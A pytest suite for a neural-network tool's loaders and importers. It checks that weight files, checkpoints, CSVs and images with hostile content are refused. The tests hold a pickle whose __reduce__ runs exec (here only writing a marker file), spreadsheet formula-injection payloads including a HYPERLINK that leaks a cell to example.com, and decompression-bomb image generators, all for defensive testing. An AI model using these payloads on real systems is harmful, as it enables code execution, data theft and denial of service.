"""Hostile files: loading weights never runs code (a pickle whose `__reduce__` would
write a marker file is refused by every weights loader, in every container, with a
message naming the file); a damaged checkpoint is refused file by file and changes
nothing; CSV and image imports with hostile content (formulas, odd encodings, NUL bytes,
huge lines, columns and files, decompression bombs, lying headers) are refused with a
clear message or handled, never evaluated.
"""

from __future__ import annotations

import codecs
import csv
import io
import json
import pickle
import shutil
import struct
import time
import zipfile
import zlib
from pathlib import Path

import pytest
import torch
from PIL import Image, ImageFile

from graph_core.cli import main as neuroloom
from graph_core.compiler import compile_graph
from graph_core.data import csv_import
from graph_core.data.bundle import DataImportError
from graph_core.data.csv_import import MAX_COLUMNS, MAX_CSV_BYTES, import_csv
from graph_core.data.images import MAX_IMAGE_PIXELS, import_image_folder
from graph_core.export import ExportError, source_from_project
from graph_core.graph import ModelGraph
from graph_core.importer import WeightsFileError, load_weights, read_weights
from graph_core.project import list_examples, load_project
from graph_core.training import EpochEvent, Trainer, TrainingConfig, checkpoint
from graph_core.training.trainer import TRAINING_STATE_FILE

SUITE = "Hostile input"
pytestmark = [
    pytest.mark.filterwarnings("ignore:Detected pickle protocol:UserWarning"),
    pytest.mark.usefixtures("one_torch_thread"),
]
XOR_PATH = next(e.path for e in list_examples() if e.name == "mlp_xor")
XOR = load_project(XOR_PATH)
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


# ----- weights that would run code ---------------------------------------------------------------
class Payload:
    """Unpickling this runs `exec`, which writes the marker file."""

    def __init__(self, marker: Path) -> None:
        self.marker = marker

    def __reduce__(self):
        return exec, (f"open({str(self.marker)!r}, 'w').write('code ran')",)


def legacy_save(obj, path: Path) -> None:
    torch.save(obj, path, _use_new_zipfile_serialization=False)


def zip_with_pickle(obj, path: Path) -> None:
    """A torch-style zip whose data.pkl is the hostile pickle itself."""
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("archive/data.pkl", pickle.dumps(obj, protocol=2))
        archive.writestr("archive/version", "3\n")


CONTAINERS = {
    "raw pickle, protocol 0": lambda obj, path: path.write_bytes(pickle.dumps(obj, protocol=0)),
    "raw pickle, protocol 2": lambda obj, path: path.write_bytes(pickle.dumps(obj, protocol=2)),
    "raw pickle, protocol 5": lambda obj, path: path.write_bytes(pickle.dumps(obj, protocol=5)),
    "torch.save zip, payload beside real tensors": lambda obj, path: torch.save(
        {"fc1.weight": torch.zeros(4, 2), "extra": obj}, path
    ),
    "torch.save legacy format": lambda obj, path: legacy_save({"fc1.weight": torch.zeros(4, 2), "x": obj}, path),
    "zip with a hostile data.pkl": zip_with_pickle,
    "pickle after a safetensors-like header": lambda obj, path: path.write_bytes(
        struct.pack("<Q", 2) + b"{}" + pickle.dumps(obj)
    ),
}
SUFFIXES = (".pt", ".pth", ".bin", ".ckpt", ".safetensors")


def hostile_file(folder: Path, container: str, suffix: str) -> tuple[Path, Path]:
    marker = folder / "marker.txt"
    path = folder / f"weights{suffix}"
    CONTAINERS[container](Payload(marker), path)
    assert not marker.exists()
    return path, marker


def xor_model():
    return compile_graph(XOR.graph, seed=0)


def checkpoint_folder(path: Path, folder: Path) -> Path:
    """A checkpoint folder whose weights or training state is the hostile file."""
    trainer = Trainer(xor_model(), _xor_data(), TrainingConfig(epochs=1, device="cpu"))
    trainer.save_checkpoint(folder)
    target = folder / (TRAINING_STATE_FILE if path.suffix != ".safetensors" else "model.safetensors")
    target.write_bytes(path.read_bytes())
    return folder


def _xor_data():
    from graph_core.data import load_dataset

    return load_dataset(XOR.data)


LOADERS = {
    "importer.read_weights": lambda path, tmp: read_weights(path),
    "importer.load_weights": lambda path, tmp: load_weights(xor_model(), path),
    "export with --weights (library)": lambda path, tmp: source_from_project(XOR, weights=path),
    "checkpoint.load_weights": lambda path, tmp: checkpoint.load_weights(xor_model(), path),
    "checkpoint.load_training_state": lambda path, tmp: checkpoint.load_training_state(path),
    "Trainer.load_checkpoint": lambda path, tmp: Trainer(
        xor_model(), _xor_data(), TrainingConfig(epochs=1, device="cpu")
    ).load_checkpoint(checkpoint_folder(path, tmp / "checkpoint")),
}
REFUSAL = {  # every refusal says what is wrong with which file
    "importer.read_weights": WeightsFileError,
    "importer.load_weights": WeightsFileError,
    "export with --weights (library)": ExportError,
    "checkpoint.load_weights": checkpoint.CheckpointError,
    "checkpoint.load_training_state": checkpoint.CheckpointError,
    "Trainer.load_checkpoint": checkpoint.CheckpointError,
}


def named_file(loader: str, path: Path) -> str:
    """The file a refusal must name: the checkpoint's own file the hostile one replaced."""
    if loader != "Trainer.load_checkpoint":
        return path.name
    return "model.safetensors" if path.suffix == ".safetensors" else TRAINING_STATE_FILE


@pytest.mark.parametrize("suffix", SUFFIXES)
@pytest.mark.parametrize("container", list(CONTAINERS))
@pytest.mark.parametrize("loader", list(LOADERS))
def test_a_weights_file_that_would_run_code_is_refused_and_the_code_never_runs(
    loader, container, suffix, tmp_path, figures
):
    """Every loader x every container x every file name: refused, marker absent."""
    path, marker = hostile_file(tmp_path, container, suffix)
    with pytest.raises(Exception) as refused:  # noqa: PT011 - any refusal; what matters is below
        LOADERS[loader](path, tmp_path)
    figures.case(faults=1)
    figures.note(loader=loader, refused_with=type(refused.value).__name__)
    assert not marker.exists(), "loading the file ran its code"
    assert isinstance(refused.value, REFUSAL[loader]), repr(refused.value)
    message = str(refused.value)
    assert named_file(loader, path) in message and len(message) < 600, message


def test_the_export_command_refuses_hostile_weights_with_exit_status_2(tmp_path, capsys, figures):
    """`neuroloom export --weights evil.pt`: bad input, no code run, nothing written."""
    for container in CONTAINERS:
        path, marker = hostile_file(tmp_path, container, ".pt")
        out = tmp_path / "out.safetensors"
        status = neuroloom(["export", str(XOR_PATH), "--weights", str(path), "-f", "safetensors", "-o", str(out)])
        figures.case(faults=1)
        assert status == 2 and not marker.exists() and not out.exists()
        assert "weights.pt" in capsys.readouterr().err


# ----- damaged checkpoints ------------------------------------------------------------------------------
def xor_trainer(seed: int, epochs: int) -> Trainer:
    config = TrainingConfig.from_dict({**XOR.training, "epochs": epochs, "device": "cpu"})
    return Trainer(compile_graph(XOR.graph, seed=seed), _xor_data(), config)


def edit_state(folder: Path, change) -> None:
    state = checkpoint.load_training_state(folder / TRAINING_STATE_FILE)
    change(state)
    torch.save(state, folder / TRAINING_STATE_FILE)


def edit_history(folder: Path, change) -> None:
    """Change the second epoch of the checkpoint's history.json."""
    path = folder / "history.json"
    history = json.loads(path.read_text("utf-8"))
    change(history["epochs"][1])
    path.write_text(json.dumps(history), "utf-8")


def other_network_weights(folder: Path) -> None:
    doc = XOR.graph.to_dict()
    doc["nodes"] = [
        {**n, "params": {**n["params"], "out_features": 7}} if n["id"] == "hidden" else n for n in doc["nodes"]
    ]
    checkpoint.save_weights(compile_graph(ModelGraph.from_dict(doc), seed=3), folder / "model.safetensors")


def cut(path: Path) -> None:
    path.write_bytes(path.read_bytes()[: path.stat().st_size // 2])


CHECKPOINT_FAULTS = {  # what is done to a good checkpoint, the file the refusal names, and what it says
    "weights missing": (lambda f: (f / "model.safetensors").unlink(), "model.safetensors", "no such file"),
    "weights truncated": (lambda f: cut(f / "model.safetensors"), "model.safetensors", "damaged"),
    "weights of another network": (other_network_weights, "model.safetensors", "do not fit this network"),
    "a folder in place of the weights": (
        lambda f: ((f / "model.safetensors").unlink(), (f / "model.safetensors").mkdir()),
        "model.safetensors",
        "is a folder",
    ),
    "training state missing": (lambda f: (f / TRAINING_STATE_FILE).unlink(), TRAINING_STATE_FILE, "no such file"),
    "training state truncated": (lambda f: cut(f / TRAINING_STATE_FILE), TRAINING_STATE_FILE, "truncated or damaged"),
    "training state of another kind": (
        lambda f: torch.save({"epoch": 3}, f / TRAINING_STATE_FILE),
        TRAINING_STATE_FILE,
        "not a NeuroLoom training state",
    ),
    "training state from a newer NeuroLoom": (
        lambda f: edit_state(f, lambda s: s.update(version=99)),
        TRAINING_STATE_FILE,
        "newer NeuroLoom (version 99)",
    ),
    "training state without its epoch": (
        lambda f: edit_state(f, lambda s: s.pop("epoch")),
        TRAINING_STATE_FILE,
        "epoch: must be a whole number; it is missing",
    ),
    "a step count of text": (
        lambda f: edit_state(f, lambda s: s.update(global_step="12")),
        TRAINING_STATE_FILE,
        "global_step: must be a whole number; found a str",
    ),
    "a shuffling state of the wrong size": (
        lambda f: edit_state(f, lambda s: s.update(generator=torch.zeros(3, dtype=torch.uint8))),
        TRAINING_STATE_FILE,
        "generator: not the state",
    ),
    "an optimizer state of another network": (
        lambda f: edit_state(f, lambda s: s["optimizers"][0]["param_groups"][0].update(params=[0])),
        TRAINING_STATE_FILE,
        "optimizer state does not fit",
    ),
    "two optimizer states for one network": (
        lambda f: edit_state(f, lambda s: s["optimizers"].append(s["optimizers"][0])),
        TRAINING_STATE_FILE,
        "holds 2 optimizer state(s)",
    ),
    "history that is not JSON": (lambda f: (f / "history.json").write_text("{"), "history.json", "not a readable"),
    "history with an unknown key": (
        lambda f: edit_history(f, lambda epoch: epoch.update(colour="red")),
        "history.json",
        "epochs[1].colour: unknown key",
    ),
    "history with a loss of text": (
        lambda f: edit_history(f, lambda epoch: epoch.update(train_loss="low")),
        "history.json",
        "epochs[1].train_loss: must be a number",
    ),
    "history without its step": (
        lambda f: edit_history(f, lambda epoch: epoch.pop("step")),
        "history.json",
        "epochs[1]: step missing",
    ),
}


@pytest.fixture(scope="module")
def good_checkpoint(tmp_path_factory) -> Path:
    trainer = xor_trainer(seed=0, epochs=3)
    assert trainer.run().reason == "completed"
    return trainer.save_checkpoint(tmp_path_factory.mktemp("good-checkpoint"))


def trainer_state(trainer: Trainer) -> dict:
    """Everything a checkpoint load would change, copied: weights, the optimizer's
    moments (flattened to one dict of tensors), counters and history length."""
    tensors = {f"weight {k}": v.clone() for k, v in trainer.model.state_dict().items()}
    for param, moments in trainer.mode.optimizers()[0].state_dict()["state"].items():
        tensors.update({f"moment {param}.{name}": t.clone() for name, t in moments.items() if torch.is_tensor(t)})
    return {"tensors": tensors, "counters": (trainer.epoch, trainer.global_step, len(trainer.history))}


def same_state(a: dict, b: dict) -> bool:
    x, y = a["tensors"], b["tensors"]
    return a["counters"] == b["counters"] and x.keys() == y.keys() and all(torch.equal(x[k], y[k]) for k in x)


@pytest.mark.parametrize("fault", list(CHECKPOINT_FAULTS))
def test_a_damaged_checkpoint_is_refused_naming_its_file_and_the_trainer_keeps_its_state(
    fault, good_checkpoint, tmp_path, figures
):
    """Every file of a checkpoint missing, truncated, of another network, of another
    kind or version, or with a field of the wrong type: a CheckpointError names the file
    and what is wrong; the trainer keeps its weights, optimizer moments, counters and
    history (nothing half-loaded), and the good checkpoint still loads afterwards."""
    damage, file_name, expected = CHECKPOINT_FAULTS[fault]
    folder = tmp_path / "checkpoint"
    shutil.copytree(good_checkpoint, folder)
    damage(folder)
    trainer = xor_trainer(seed=1, epochs=1)
    trainer.run()  # weights, Adam's moments and a history of its own
    before = trainer_state(trainer)
    with pytest.raises(checkpoint.CheckpointError) as refused:
        trainer.load_checkpoint(folder)
    figures.case(faults=1)
    message = str(refused.value)
    assert file_name in message and expected in message and len(message) < 600, message
    assert same_state(trainer_state(trainer), before), "a refused checkpoint changed the trainer"
    trainer.load_checkpoint(good_checkpoint)
    assert trainer.epoch == 3 and len(trainer.history) == 3


# ----- CSV --------------------------------------------------------------------------------------------
def rows(n: int = 40) -> str:
    return "".join(f"{i / n:.3f},{(i * 7) % 5 / 5:.3f},{i % 2}\n" for i in range(n))


def write(folder: Path, name: str, data: bytes | str) -> Path:
    path = folder / name
    path.write_bytes(data.encode("utf-8") if isinstance(data, str) else data)
    return path


FORMULAS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.com/?leak="&A1,"click")',
    "+1+1",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=1+1",
    "\t=1+1",
]


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_formula_in_a_feature_column_is_refused_as_text_by_row_and_column(formula, tmp_path, figures):
    path = write(tmp_path, "f.csv", f"a,b,y\n{rows(10)}0.5,{formula.replace(',', ';')},1\n")
    with pytest.raises(DataImportError) as refused:
        import_csv(path, target="y")
    figures.case(faults=1)
    assert 'row 12, column "b"' in str(refused.value) and "is not a number" in str(refused.value)


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_formula_in_the_target_is_a_class_name_kept_as_written(formula, tmp_path, figures):
    """Text targets become class names: the cell is kept character for character."""
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\n")
    writer.writerow(["a", "y"])
    for i in range(20):
        writer.writerow([i / 20, formula if i % 2 else "plain"])
    bundle = import_csv(write(tmp_path, "t.csv", buffer.getvalue()), target="y")
    figures.case(faults=1)
    assert sorted(bundle.class_names) == sorted([formula.strip(), "plain"])


def test_the_history_csv_never_writes_a_cell_a_spreadsheet_would_run(tmp_path, figures):
    """The one CSV NeuroLoom writes: hostile names in per-node and per-mode columns
    come out behind a prefix; the only cells starting with - or + are numbers."""
    hostile = {f: 1.0 for f in FORMULAS}
    event = EpochEvent(1, 1, 10, -0.5, None, None, None, 0.01, hostile, 100.0, 1.0, 0.0, dict(hostile))
    path = tmp_path / "history.csv"
    checkpoint.save_history([event], path)
    cells = [cell for row in csv.reader(path.open(newline="")) for cell in row]
    figures.case(faults=len(FORMULAS))
    for cell in cells:
        if cell.startswith(FORMULA_START):
            float(cell)  # a number such as -0.5, or this raises


ENCODED = {
    "UTF-16 with a byte-order mark": codecs.BOM_UTF16_LE + ("a,b,y\n" + rows()).encode("utf-16-le"),
    "UTF-16 big-endian with a byte-order mark": codecs.BOM_UTF16_BE + ("a,b,y\n" + rows()).encode("utf-16-be"),
    "UTF-32 with a byte-order mark": ("a,b,y\n" + rows()).encode("utf-32"),
    "UTF-8 with a byte-order mark": codecs.BOM_UTF8 + ("a,b,y\n" + rows()).encode(),
}
REFUSED = {
    "UTF-16 without a byte-order mark": (("a,b,y\n" + rows()).encode("utf-16-le"), "NUL"),
    "UTF-32 without a byte-order mark": (("a,b,y\n" + rows()).encode("utf-32-be"), "NUL"),
    "Latin-1": (("a,b,température\n" + rows()).encode("latin-1"), "not UTF-8 text (byte 0xe9"),
    "Windows-1252": (("a,b,y\n" + rows() + "“1”,2,3\n").encode("cp1252"), "not UTF-8 text (byte 0x93"),
    "NUL bytes in a cell": (("a,b,y\n1,2\x00,1\n" + rows()).encode(), "row 2: holds NUL"),
    "a binary file": (b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 64, "not UTF-8 text (byte 0x89"),
    "a 20 MB line": (("a,b,y\n" + "1" * 20_000_000 + ",2,1\n" + rows()).encode(), "row 2: cannot be read as CSV"),
    "nothing but a byte-order mark": (codecs.BOM_UTF8, "is empty"),
    "a header only": (b"a,b,y\n", "no data rows"),
    "a header of numbers": (rows().encode(), "holds numbers, not column names"),
    "a header naming a column twice": (("a,a,y\n" + rows()).encode(), "names columns twice: a"),
}


@pytest.mark.parametrize("encoding", list(ENCODED))
def test_a_csv_with_a_byte_order_mark_is_read_in_its_encoding(encoding, tmp_path, figures):
    bundle = import_csv(write(tmp_path, "e.csv", ENCODED[encoding]), target="y")
    figures.case()
    assert bundle.feature_names == ["a", "b"] and bundle.class_names == ["0", "1"]


@pytest.mark.parametrize("kind", list(REFUSED))
def test_an_unreadable_csv_is_refused_with_what_is_wrong_and_where(kind, tmp_path, figures):
    data, expected = REFUSED[kind]
    with pytest.raises(DataImportError) as refused:
        import_csv(write(tmp_path, "bad.csv", data), target="y")
    figures.case(faults=1)
    assert expected in str(refused.value) and "bad.csv" in str(refused.value), str(refused.value)
    assert len(str(refused.value)) < 400


def test_a_million_columns_are_refused_at_once(tmp_path, figures, monkeypatch):
    """A 1,000,000-column header (the search for a column was quadratic: hours) is
    refused from its size, before any column is looked at (the time is reported)."""
    header = ",".join(f"c{i}" for i in range(1_000_000)) + ",y\n"
    path = write(tmp_path, "wide.csv", header + ",".join("1" for _ in range(1_000_001)) + "\n")
    for step in ("_check_header", "_fit_to_header", "_choose_columns"):
        monkeypatch.setattr(csv_import, step, lambda *args, step=step: pytest.fail(f"{step} ran on the columns"))
    started = time.perf_counter()
    with pytest.raises(DataImportError) as refused:
        import_csv(path, target="y")
    seconds = time.perf_counter() - started
    figures.case(faults=1)
    figures.note(refusal_s=round(seconds, 2))
    assert f"header has 1,000,001 columns; at most {MAX_COLUMNS:,}" in str(refused.value), str(refused.value)


def test_ten_thousand_columns_still_import(tmp_path, figures):
    """The column limit itself imports, every value in its place (the time is reported)."""
    n = MAX_COLUMNS - 1
    header = ",".join(f"c{i}" for i in range(n)) + ",y\n"
    body = "".join(",".join(str((i * j) % 7) for i in range(n)) + f",{j % 2}\n" for j in range(30))
    started = time.perf_counter()
    bundle = import_csv(write(tmp_path, "wide.csv", header + body), target="y")
    seconds = time.perf_counter() - started
    figures.case()
    figures.note(import_s=round(seconds, 2))
    assert bundle.x_train.shape[1] == n and bundle.feature_names == [f"c{i}" for i in range(n)]
    assert sorted(bundle.class_names) == ["0", "1"]
    rows = len(bundle.x_train) + len(bundle.x_val) + len(bundle.x_test)
    assert rows == 30


def test_a_csv_larger_than_the_limit_is_refused_before_it_is_read(tmp_path, figures, monkeypatch):
    path = tmp_path / "huge.csv"
    with open(path, "wb") as handle:
        handle.write(b"a,b,y\n")
        handle.truncate(MAX_CSV_BYTES + 1)
    monkeypatch.setattr(Path, "read_bytes", lambda self: pytest.fail("the file was read"))
    with pytest.raises(DataImportError) as refused:
        import_csv(path, target="y")
    figures.case(faults=1)
    assert f"limited to {MAX_CSV_BYTES // 2**20} MB" in str(refused.value)


# ----- images -------------------------------------------------------------------------------------------
def png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)


def bomb_png(width: int, height: int, rows: int | None = None, text: bytes = b"") -> bytes:
    """A greyscale PNG that claims `width` x `height` and holds `rows` rows of zeros
    (all of them by default: a real decompression bomb, a few hundred KB on disk)."""
    compressor = zlib.compressobj(9)
    row = b"\x00" * (width + 1)
    idat = b"".join(compressor.compress(row) for _ in range(height if rows is None else rows))
    idat += compressor.flush()
    header = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    extra = png_chunk(b"zTXt", b"comment\x00\x00" + zlib.compress(text, 9)) if text else b""
    return (
        b"\x89PNG\r\n\x1a\n" + png_chunk(b"IHDR", header) + extra + png_chunk(b"IDAT", idat) + png_chunk(b"IEND", b"")
    )


def bmp_header(width: int, height: int) -> bytes:
    """A 24-bit BMP header that claims `width` x `height` and holds no pixels."""
    info = struct.pack("<IiiHHIIiiII", 40, width, height, 1, 24, 0, 0, 2835, 2835, 0, 0)
    return b"BM" + struct.pack("<IHHI", 14 + len(info), 0, 0, 14 + len(info)) + info


def gif_header(width: int, height: int) -> bytes:
    """A GIF whose logical screen is `width` x `height` around a 1x1 image."""
    screen = b"GIF89a" + struct.pack("<HH", width, height) + b"\x80\x00\x00" + b"\x00\x00\x00\xff\xff\xff"
    image = b"\x2c" + struct.pack("<HHHH", 0, 0, 1, 1) + b"\x00" + b"\x02\x02\x44\x01\x00"
    return screen + image + b"\x3b"


@pytest.fixture
def image_folder(tmp_path) -> Path:
    root = tmp_path / "images"
    for name, shade in (("cats", 40), ("dogs", 200)):
        (root / name).mkdir(parents=True)
        for i in range(3):
            Image.new("L", (12, 12), shade + i).save(root / name / f"{i}.png")
    return root


HOSTILE_IMAGES = {
    "a decompression bomb (9000 x 9000 of zeros)": ("bomb.png", lambda: bomb_png(9000, 9000), "refused"),
    "a PNG header claiming 100000 x 100000": ("liar.png", lambda: bomb_png(100_000, 100_000, rows=2), "refused"),
    "a BMP header claiming 60000 x 60000": ("liar.bmp", lambda: bmp_header(60_000, 60_000), "refused"),
    "a GIF screen of 65535 x 65535": ("liar.gif", lambda: gif_header(65_535, 65_535), "refused"),
    "a PNG with a 50 MB text bomb": ("text.png", lambda: bomb_png(8, 8, text=b"\x00" * 50_000_000), "cannot be read"),
    "a truncated PNG": ("cut.png", lambda: bomb_png(64, 64)[:60], "cannot be read"),
    "text named .png": ("notes.png", lambda: b"=cmd|' /C calc'!A0\n" * 10, "cannot be read"),
    "an empty file": ("empty.jpg", lambda: b"", "cannot be read"),
}


@pytest.mark.parametrize("kind", list(HOSTILE_IMAGES))
def test_a_hostile_image_is_refused_by_name_before_it_can_hurt(kind, image_folder, figures, monkeypatch):
    """Decompression bombs and lying headers are refused from the header: their pixels
    are never decoded (the time is reported); broken files are named."""
    name, make, expected = HOSTILE_IMAGES[kind]
    (image_folder / "dogs" / name).write_bytes(make())
    decoded: list[str] = []
    load = ImageFile.ImageFile.load

    def recording_load(image):
        decoded.append(Path(getattr(image, "filename", "") or "").name)
        return load(image)

    monkeypatch.setattr(ImageFile.ImageFile, "load", recording_load)
    started = time.perf_counter()
    with pytest.raises(DataImportError) as refused:
        import_image_folder(image_folder, size=(8, 8))
    seconds = time.perf_counter() - started
    figures.case(faults=1)
    figures.values[kind] = f"{seconds * 1000:.0f} ms"
    message = str(refused.value)
    assert f"dogs/{name}" in message and expected in message, message
    if expected == "refused":
        assert name not in decoded, "the hostile image was decoded before it was refused"
    assert decoded, "no image was decoded at all: the recording missed Pillow's decoder"


def test_an_image_just_under_the_pixel_limit_is_imported(image_folder, figures):
    """The guard is no stricter than it says: 7999 x 7999 (64.0 megapixels) passes."""
    side = int(MAX_IMAGE_PIXELS**0.5) - 1
    (image_folder / "dogs" / "large.png").write_bytes(bomb_png(side, side))
    bundle = import_image_folder(image_folder, size=(8, 8))
    figures.case()
    assert len(bundle.y_train) + len(bundle.y_val) + len(bundle.y_test) == 7


def test_class_folders_with_hostile_names_are_class_names_as_written(tmp_path, figures):
    root = tmp_path / "images"
    names = ["=cmd|' calc'!A0", "@SUM(1)", "-2+3", "名前 ünïcode"]
    for shade, name in enumerate(names):
        (root / name).mkdir(parents=True)
        Image.new("L", (8, 8), shade * 60).save(root / name / "a.png")
        Image.new("L", (8, 8), shade * 60 + 5).save(root / name / "b.png")
    bundle = import_image_folder(root, size=(8, 8))
    figures.case(faults=len(names))
    assert bundle.class_names == sorted(names)
